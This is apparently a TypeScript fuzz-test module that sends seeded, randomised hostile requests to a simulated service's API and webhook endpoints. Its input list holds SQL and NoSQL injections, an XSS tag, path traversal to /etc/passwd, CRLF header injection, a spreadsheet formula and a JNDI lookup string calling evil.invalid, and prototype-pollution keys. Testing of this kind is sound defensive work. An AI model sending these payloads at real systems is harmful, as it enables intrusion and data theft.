import { type Chances, createChances } from '../histories/prng.ts';
import type { Answer, World } from './world.ts';

/** Texts that break what is careless: injections, broken encodings, numbers at the edge, names of prototypes. */
const TEXTS: readonly string[] = [
  "' OR 1=1 --",
  '"; DROP TABLE pairs; --',
  '{"$gt":""}',
  '$where: sleep(1000)',
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.invalid","x")',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  '\ud800',
  '\u202e',
  'a'.repeat(5_000),
  '💥'.repeat(200),
  '__proto__',
  'constructor',
  'toString',
  '-1',
  '0',
  '9007199254740993',
  '1e400',
  'NaN',
  ['$', '{jndi:ldap://evil.invalid/a}'].join(''),
  '\r\nset-cookie: a=b',
  'null',
  '',
  ' ',
];
const TYPES = [
  'application/json',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json; charset=utf-16',
  'nonsense',
  '',
];
const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'] as const;
const FIELDS = ['Id', 'OrganisationId', 'entityId', 'tenantId', 'type', 'topic', 'keys', 'name', '$where', '__proto__'];

/** As a part of an address; half of a surrogate pair has no such form. */
const encoded = (text: string): string => encodeURIComponent(Buffer.from(text).toString());

function value(chances: Chances, depth = 0): unknown {
  const kind = chances.below(depth > 3 ? 5 : 8);
  if (kind < 3) return chances.one(TEXTS);
  if (kind === 3) return chances.one([0, -1, 1e308, 9007199254740991, 0.1, Number.MIN_VALUE]);
  if (kind === 4) return chances.one([true, false, null]);
  if (kind === 5) return Array.from({ length: chances.below(6) }, () => value(chances, depth + 1));
  return Object.fromEntries(
    Array.from({ length: chances.below(6) }, () => [chances.one([...FIELDS, ...TEXTS]), value(chances, depth + 1)]),
  );
}

/** A body: JSON of any shape, nested deeply, cut, with bytes that are no text, or too large. */
function body(chances: Chances): Buffer {
  const kind = chances.below(20);
  if (kind === 0) return Buffer.from(`${'['.repeat(20_000)}`);
  if (kind === 1) return Buffer.from(`${'{"a":'.repeat(8_000)}1${'}'.repeat(8_000)}`);
  if (kind === 2) return Buffer.alloc(300 * 1024, 0x61);
  if (kind === 3) return Buffer.from(Array.from({ length: 64 }, () => chances.below(256)));
  if (kind === 4) return Buffer.from(chances.one(TEXTS));
  const text = JSON.stringify(value(chances)) ?? 'null';
  return Buffer.from(kind < 8 ? text.slice(0, chances.below(text.length + 1)) : text);
}

/**
 * The `count` hostile requests of a seed: to hooks with the right token and others, and to the API as its administrator and as
 * nobody. Each answer goes to `answered` with what was asked.
 */
export async function attack(
  world: World,
  options: { seed: number; count: number; tenant: string; hookToken: string; token: string; paths: readonly string[] },
  answered: (asked: string, answer: Answer) => void,
): Promise<void> {
  const chances = createChances(options.seed, 40);
  const { tenant, hookToken, token, paths } = options;
  for (let done = 0; done < options.count; done += 1) {
    const isHook = chances.chance(0.5);
    const url = isHook
      ? chances.one([
          `/webhooks/webcrm/${hookToken}/organisations/update`,
          `/webhooks/webcrm/${hookToken}/lines/delete`,
          `/webhooks/webcrm/${hookToken}/${encoded(chances.one(TEXTS).slice(0, 150))}/update`,
          `/webhooks/fortnox/${hookToken}`,
          `/webhooks/fortnox/${encoded(chances.one(TEXTS).slice(0, 60))}`,
        ])
      : chances
          .one(paths)
          .replace('{tenant}', chances.chance(0.7) ? tenant : encoded(chances.one(TEXTS)))
          .replace(/\{\w+\}/g, () => encoded(chances.one(TEXTS))) +
        (chances.chance(0.4)
          ? `?${chances.one(['cursor', 'limit', 'state', 'from', 'entity', 'id', '__proto__'])}=${encoded(chances.one(TEXTS))}`
          : '');
    const method = isHook ? 'POST' : chances.one(METHODS);
    const type = chances.one(TYPES);
    const headers = {
      ...(type === '' ? {} : { 'content-type': type }),
      ...(chances.chance(0.9) ? { authorization: `Bearer ${token}` } : {}),
      ...(chances.chance(0.3)
        ? {
            'webhook-id': 'x',
            'webhook-timestamp': String(Math.floor(world.runtime.now() / 1000)),
            'webhook-signature': `v1,${chances.one(['', 'AAAA', '!!!!', 'x'.repeat(3_000)])}`,
          }
        : {}),
    };
    const payload = method === 'GET' || method === 'HEAD' ? undefined : body(chances);
    const answer = await world.ask({
      method: method as 'POST',
      url,
      headers,
      ...(payload === undefined ? {} : { payload }),
    });
    answered(`${method} ${url.slice(0, 200)} ${type} ${payload?.toString('latin1').slice(0, 120) ?? ''}`, answer);
    // Limits would answer in the place of what is to be tried.
    if (done % 50 === 49) await world.runtime.advance(61_000);
  }
}
